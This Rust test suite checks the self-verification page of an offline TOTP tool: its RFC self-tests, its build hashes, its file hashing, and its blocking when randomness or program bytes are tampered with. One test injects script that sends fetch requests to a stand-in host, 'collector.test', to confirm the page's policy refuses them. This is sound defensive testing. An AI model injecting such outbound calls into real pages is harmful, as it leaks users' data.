//! `#proof`: what the page shows of itself agrees with what can be found out about it from outside; and where a self-test
//! fails there is no page.

use std::io::{Read, Write};

use data_encoding::{BASE64, HEXLOWER};
use flate2::Compression;
use flate2::read::DeflateDecoder;
use flate2::write::DeflateEncoder;
use page::{
    Browser, Failure, Find, Origin, Outcome, Page, Role, Scenario, Variant, eventually, expect,
    expect_eq, scenario,
};
use sha2::{Digest, Sha256};

use crate::issue::issues_nothing_where_the_worker_draws;

/// What is tried here.
pub fn scenarios() -> Vec<Scenario> {
    let sight = "a page with a host sees requests of its own, and a page from a file none";
    vec![
        scenario!(what_the_page_says_of_itself_is_so).from_both(sight),
        scenario!(what_happens_is_seen_as_it_happens).from_both(sight),
        scenario!(a_file_is_hashed_and_compared),
        scenario!(a_source_of_randomness_that_is_not_well_blocks_the_page),
        scenario!(a_wrong_answer_blocks_the_page),
        scenario!(a_worker_whose_source_repeats_itself_issues_nothing),
    ]
}

const BLOCKED: &str = "This page must not be used here";

fn sha256(bytes: impl AsRef<[u8]>) -> String {
    HEXLOWER.encode(&Sha256::digest(bytes))
}

/// What stands between two texts, the first time that it does.
fn between<'a>(html: &'a str, before: &str, after: &str) -> Outcome<&'a str> {
    let inside = html
        .split_once(before)
        .and_then(|(_, rest)| rest.split_once(after));
    match inside {
        Some((inside, _)) => Ok(inside),
        None => Failure::because(format!("expected {before} in the page")),
    }
}

const PROGRAM: &str = "<script id=\"wasm\" type=\"application/octet-stream;base64\">";

/// The program as it runs, unpacked here.
fn program(html: &str) -> Outcome<Vec<u8>> {
    let packed = BASE64.decode(between(html, PROGRAM, "</script>")?.as_bytes())?;
    let mut program = Vec::new();
    DeflateDecoder::new(packed.as_slice()).read_to_end(&mut program)?;
    Ok(program)
}

async fn what_the_page_says_of_itself_is_so(page: Page) -> Outcome {
    page.open("#proof").await?;
    let built = page.variant()?;
    let html = built.html();

    // Self-tests: each of them, passed, with its source.
    let tests = page.table("Self-tests").await?.rows().await?;
    expect_eq("the tests and the head", &tests.len(), &11)?;
    for test in &tests[1..] {
        expect(test[1].contains("passed"), || {
            format!("{} to have passed", test[0])
        })?;
    }
    for (what, source) in [
        ("HMAC-SHA-1", "RFC 2202"),
        ("HMAC-SHA-256", "RFC 4231"),
        ("HMAC-SHA-512", "RFC 4231"),
        ("HOTP", "RFC 4226"),
        ("TOTP", "RFC 6238"),
        ("SHA-256", "RFC 6234"),
        ("base32", "RFC 4648"),
        ("hex", "RFC 4648"),
        ("base64", "RFC 4648"),
        (
            "Source of randomness",
            "it cannot show that the numbers are unpredictable",
        ),
    ] {
        let listed = tests
            .iter()
            .any(|test| test[0].starts_with(what) && test[2].contains(source));
        expect(listed, || format!("{what} with its source, {source}"))?;
    }

    // The build: the stamp that is in the file.
    let stamp = between(html, "<meta name=\"totp-toolset-build\" content=\"", "\"")?;
    let build = page.region("This build").await?;
    for word in stamp.trim_end_matches("-modified").split(' ') {
        let word = word.replace("unknown", "nobody named");
        eventually("the build's version and commit", async || {
            Ok(build.text().await?.contains(&word))
        })
        .await?;
    }

    // The hashes of what runs: taken here from the file's bytes.
    let mut wanted = vec![
        (
            "style".to_owned(),
            sha256(between(html, "<style>", "</style>")?),
        ),
        ("program (WebAssembly)".to_owned(), sha256(program(html)?)),
    ];
    for (id, name) in [
        ("watch", "watch"),
        ("glue", "glue between program and browser"),
        ("check", "check"),
        ("loader", "loader"),
    ] {
        let text = between(html, &format!("<script id=\"{id}\">"), "</script>")?;
        wanted.push((name.to_owned(), sha256(text)));
    }
    for (name, sum) in wanted {
        page.button(&format!("Copy the SHA-256 of {name}")).await?;
        let shown = page
            .script(&format!(
                "return [...document.querySelectorAll('#build dt')].find((dt) => dt.textContent === '{name}').nextSibling.querySelector('code').textContent;"
            ))
            .await?;
        expect_eq(
            &format!("the SHA-256 of {name}"),
            shown.as_str(),
            Some(sum.as_str()),
        )?;
    }

    // What it saw: itself, and no request.
    expect_own_requests_alone(&page).await?;
    page.wait_for_text("The policy had nothing to refuse.")
        .await?;
    page.wait_for_text("the proof is in the project’s tests")
        .await?;
    let address = page.address().await?;
    let plain = address.split('#').next().unwrap_or_default();
    let seen = page.table("What this page can see").await?.rows().await?;
    let lines = 2 + usize::from(tells_of_the_worker(&page));
    expect_eq("the head, the page itself, its worker", &seen.len(), &lines)?;
    // Firefox names no address of a file.
    let named = page.browser() == Browser::Firefox && seen[1][2] == "document"
        || seen[1][2].starts_with(plain);
    expect(seen[1][1] == "page opened" && named, || {
        format!("the page itself, not {:?}", seen[1])
    })?;
    page.wait_for_text("JavaScript strings cannot be wiped")
        .await
}

/// A hosted page asks for the worker that keeps it, and WebKit alone tells it so.
fn tells_of_the_worker(page: &Page) -> bool {
    page.browser() == Browser::WebKit && page.origin() == Origin::Http
}

/// The page was told of no request but those of its own.
async fn expect_own_requests_alone(page: &Page) -> Outcome {
    if !tells_of_the_worker(page) {
        return page
            .wait_for_text("No request seen since the page was opened.")
            .await;
    }
    page.wait_for_text("1 request seen since the page was opened.")
        .await?;
    let seen = page.table("What this page can see").await?.rows().await?;
    expect(seen.iter().any(|row| row[2].ends_with("/sw.js")), || {
        format!("the worker in the list, not {seen:?}")
    })
}

async fn what_happens_is_seen_as_it_happens(page: Page) -> Outcome {
    // Before the program runs, and again whenever it is asked to.
    let script = "const attempt = (path) => { fetch('https://collector.test/' + path).catch(() => {}); }; \
        addEventListener('DOMContentLoaded', () => attempt('early')); \
        addEventListener('attempt', () => attempt('late\\u202e?<b>' + 'a'.repeat(5000))); \
        let online = true; \
        Object.defineProperty(Navigator.prototype, 'onLine', { get: () => online }); \
        addEventListener('unplug', () => { online = false; dispatchEvent(new Event('offline')); }); \
        addEventListener('plug', () => { online = true; dispatchEvent(new Event('online')); });";
    let variant = page.variant()?.with_script(script)?;
    page.open_variant(&variant, "#proof").await?;
    page.wait_for_text("The policy refused 1 attempt").await?;
    page.script("dispatchEvent(new Event('attempt'));").await?;
    page.wait_for_text("The policy refused 2 attempts").await?;
    let rows = page.table("What this page can see").await?.rows().await?;
    let refused: Vec<_> = rows
        .iter()
        .filter(|row| row[1] == "refused by connect-src")
        .collect();
    expect_eq("the refusals in the list", &refused.len(), &2)?;
    expect(refused[0][2].starts_with("https://collector.test/"), || {
        format!("the address, not {}", refused[0][2])
    })?;
    for row in refused {
        expect(row[2].chars().count() <= 200, || {
            "an address of a sane length".to_owned()
        })?;
    }
    // A worker is made of a Blob: no network carries that, and the page says so where the browser tells of it.
    expect_own_requests_alone(&page).await?;

    page.wait_for_text("The browser says that it is online.")
        .await?;
    page.script("dispatchEvent(new Event('unplug'));").await?;
    page.wait_for_text("The browser says that it is offline.")
        .await?;
    page.script("dispatchEvent(new Event('plug'));").await?;
    page.wait_for_text("The browser says that it is online.")
        .await?;
    page.wait_for_text("“online” is no sign of a connection")
        .await?;

    // A flood is counted, not kept.
    page.script(
        "for (let n = 0; n < 300; n++) fetch('https://collector.test/' + n).catch(() => {});",
    )
    .await?;
    page.wait_for_text("The policy refused 302 attempts")
        .await?;
    page.wait_for_text("202 more are not listed").await?;
    let rows = page.table("What this page can see").await?.rows().await?;
    let lines = 102 + usize::from(tells_of_the_worker(&page));
    expect_eq("the rows and the head", &rows.len(), &lines)
}

async fn a_file_is_hashed_and_compared(page: Page) -> Outcome {
    page.open("#proof").await?;
    let card = page.region("Check a file").await?;
    let built = page.variant()?.html().to_owned();
    let file = page.write_file("totp-toolset.html", &built)?;
    page.file_input("File to hash")
        .await?
        .upload(&[&file])
        .await?;
    page.wait_for_text(&sha256(&built)).await?;
    page.wait_for_text(&format!("totp-toolset.html, {} bytes,", built.len()))
        .await?;

    // What was published: the same, in the words of a tool; another; none.
    let field = page.field("Published SHA-256").await?;
    let sum = sha256(&built);
    field
        .fill(&format!("{} *totp-toolset.html", sum.to_uppercase()))
        .await?;
    page.wait_for_text("The same. Now check from outside")
        .await?;
    field.fill(&sha256("another")).await?;
    page.wait_for_text("Different: this is not the file")
        .await?;
    field.fill("yes").await?;
    page.wait_for_text("No SHA-256 in that text").await?;

    // Of several slices, dropped, and of none.
    let large: Vec<u8> = (0..2_500_000_u32).map(|n| (n % 253) as u8).collect();
    card.drop_file("large.bin", &large).await?;
    page.wait_for_text(&sha256(&large)).await?;
    card.drop_file("<b>empty</b>", b"").await?;
    page.wait_for_text(&sha256("")).await?;
    page.wait_for_text("<b>empty</b>, 0 bytes,").await?;
    // What is dropped here is no file of tokens.
    page.link("Code").await?.click().await?;
    page.wait_for_text("No tokens yet.").await?;
    expect(!page.shows("large.bin").await?, || {
        "no word of the file in the list".to_owned()
    })?;

    page.link("Proof").await?.click().await?;
    for command in [
        "certutil -hashfile totp-toolset.html SHA256",
        "Get-FileHash totp-toolset.html -Algorithm SHA256",
        "sha256sum totp-toolset.html",
    ] {
        page.wait_for_text(command).await?;
    }
    page.button("Copy the command for Windows").await?;
    page.wait_for_text("Only a check from outside is proof.")
        .await
}

/// The warning is there, and nothing of the tool.
async fn is_blocked(page: &Page, failed: &str) -> Outcome {
    page.find(Role::Alert, BLOCKED).await?;
    page.wait_for_text(failed).await?;
    page.wait_for_text("Open the same file in another browser.")
        .await?;
    for (role, name) in [
        (Role::Status, "Current code"),
        (Role::Field, "Seed or otpauth URI"),
        (Role::Link, "Issue"),
    ] {
        expect(!page.has(role, name).await?, || format!("no {name}"))?;
    }
    expect_eq("the title", page.title().await?.as_str(), "TOTP Toolset")
}

async fn a_source_of_randomness_that_is_not_well_blocks_the_page(page: Page) -> Outcome {
    for (source, failed) in [
        (
            "(place) => place.fill(0x5a)",
            "crypto.getRandomValues repeats itself",
        ),
        (
            "(place) => { real(place.subarray(place.length / 2)); return place; }",
            "crypto.getRandomValues leaves a part of what it should fill",
        ),
        (
            "() => { throw new Error('no entropy'); }",
            "crypto.getRandomValues is missing or fails",
        ),
        ("undefined", "crypto.getRandomValues is missing or fails"),
    ] {
        let script = format!(
            "const real = crypto.getRandomValues.bind(crypto); \
             Object.defineProperty(Crypto.prototype, 'getRandomValues', {{ value: {source} }}); \
             Math.random = () => {{ document.title = 'weak'; return 0.5; }};"
        );
        let variant = page.variant()?.with_script(&script)?;
        // With something behind a # a browser would take the same address for a place in the page that is open.
        page.open_variant(&variant, "").await?;
        is_blocked(&page, failed).await?;
    }
    // The same hand on a source that is well changes nothing.
    let variant = page.variant()?.with_script(
        "const real = crypto.getRandomValues.bind(crypto); \
         Object.defineProperty(Crypto.prototype, 'getRandomValues', { value: real });",
    )?;
    page.open_variant(&variant, "").await?;
    page.find(Role::Status, "Current code").await?;
    expect(!page.has(Role::Alert, BLOCKED).await?, || {
        "no warning".to_owned()
    })
}

/// HMAC-SHA-1 of RFC 2202's first case, as it lies in the program.
const PUBLISHED: [u8; 20] = [
    0xb6, 0x17, 0x31, 0x86, 0x55, 0x05, 0x72, 0x64, 0xe2, 0x8b, 0xc0, 0xb6, 0xfb, 0x37, 0x8c, 0x8e,
    0xf1, 0x46, 0xbe, 0x00,
];

/// In the program itself one bit of a published value is turned, so that what it computes agrees with it no more.
async fn a_wrong_answer_blocks_the_page(page: Page) -> Outcome {
    let html = page.variant()?.html().to_owned();
    let mut changed = program(&html)?;
    let places: Vec<_> = changed
        .windows(19)
        .enumerate()
        // The last byte is a zero, with which an optimiser may end a segment.
        .filter(|(_, window)| *window == &PUBLISHED[..19])
        .map(|(place, _)| place)
        .collect();
    expect_eq("the places of the value", &places.len(), &1)?;
    changed[places[0]] ^= 1;
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(&changed)?;
    let packed = BASE64.encode(&encoder.finish()?);
    let old = between(&html, PROGRAM, "</script>")?;
    let variant = Variant::of_html(html.replacen(old, &packed, 1));
    page.open_variant(&variant, "#code").await?;
    is_blocked(
        &page,
        "HMAC-SHA-1: computes something else than what was published",
    )
    .await
}

async fn a_worker_whose_source_repeats_itself_issues_nothing(page: Page) -> Outcome {
    // The page's own is well: the worker tests its own.
    issues_nothing_where_the_worker_draws(&page, "(place) => place.fill(7)").await
}
